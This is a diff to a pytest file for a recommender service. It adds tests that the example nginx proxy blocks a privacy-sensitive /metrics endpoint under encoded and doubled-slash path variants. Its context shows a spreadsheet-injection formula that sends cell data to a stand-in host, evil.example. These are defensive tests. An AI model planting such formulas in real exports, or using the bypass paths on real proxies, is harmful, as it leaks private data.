@@ -12,17 +12,24 @@ from __future__ import annotations
 
 import csv
 import gzip
+import http.server
 import os
+import shutil
+import ssl
 import stat
+import tempfile
+import threading
 from datetime import datetime, timezone
+from pathlib import Path
 
+import httpx
 import pandas as pd
 import pytest
 
 from recommender.cli import main
 from recommender.cohort import read_cohort, write_cohort
 from recommender.service import AuditLog
-from service_fixtures import service_home  # noqa: F401  (fixture)
+from service_fixtures import free_port, service_home  # noqa: F401  (fixture)
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&B2,"open")',
@@ -121,3 +128,65 @@ def test_an_audit_export_file_is_readable_by_its_owner_only(
     assert _mode(out) == 0o600
     if table == "recommendations":
         assert "p-1" not in out.read_text() != ""  # the answer, by its hash
+
+
+# -- the shipped nginx example and the open /metrics ---------------------------------------------
+# /metrics needs no key (Prometheus scrapes it), and its `recommender_crisis_answers_total` rises
+# as each crisis answer is given: through the example proxy as shipped, anyone on the network
+# could watch it and learn when a colleague was flagged at crisis risk.
+
+
+class _Upstream(http.server.BaseHTTPRequestHandler):
+    """A stand-in service: 200 and the path it was asked for, for every GET."""
+
+    def do_GET(self):  # noqa: N802 - the name http.server calls
+        body = f"upstream {self.path}".encode()
+        self.send_response(200)
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+    def log_message(self, *args):  # keep the test's output quiet
+        pass
+
+
+@pytest.fixture(scope="module")
+def example_proxy():
+    """The shipped nginx example (as tests/test_proxy_nginx_dec06b.py renders it) in front of a
+    stand-in service; yields ``(proxy URL, TLS context)``."""
+    if shutil.which("nginx") is None:
+        pytest.skip("nginx is not installed (`make system-test-deps` installs it)")
+    from test_proxy_nginx_dec06b import _nginx, make_certificate
+
+    upstream = http.server.ThreadingHTTPServer(("127.0.0.1", free_port()), _Upstream)
+    threading.Thread(target=upstream.serve_forever, daemon=True).start()
+    # nginx's workers run as `nobody` when started by root: its folder must be readable.
+    folder = Path(tempfile.mkdtemp(prefix="nginx-privacy-"))
+    folder.chmod(0o755)
+    try:
+        make_certificate(folder)
+        fallback = folder / "fallback"
+        fallback.mkdir(mode=0o755)
+        address = f"127.0.0.1:{upstream.server_address[1]}"
+        with _nginx(folder, address, fallback) as port:
+            yield (
+                f"https://127.0.0.1:{port}",
+                ssl.create_default_context(cafile=str(folder / "cert.pem")),
+            )
+    finally:
+        upstream.shutdown()
+        upstream.server_close()
+        shutil.rmtree(folder, ignore_errors=True)
+
+
+@pytest.mark.parametrize(
+    "path", [b"/metrics", b"/metrics/", b"//metrics", b"/%6detrics", b"/metrics?name[]=x"]
+)
+def test_the_example_proxy_keeps_metrics_from_callers(example_proxy, path):
+    base, tls = example_proxy
+    with httpx.Client(base_url=base, verify=tls, timeout=30) as client:
+        refused = client.get(httpx.URL(base).copy_with(raw_path=path))
+        assert refused.status_code == 403, refused.text
+        assert "upstream" not in refused.text
+        # what a caller may read still passes
+        assert client.get("/livez").text == "upstream /livez"
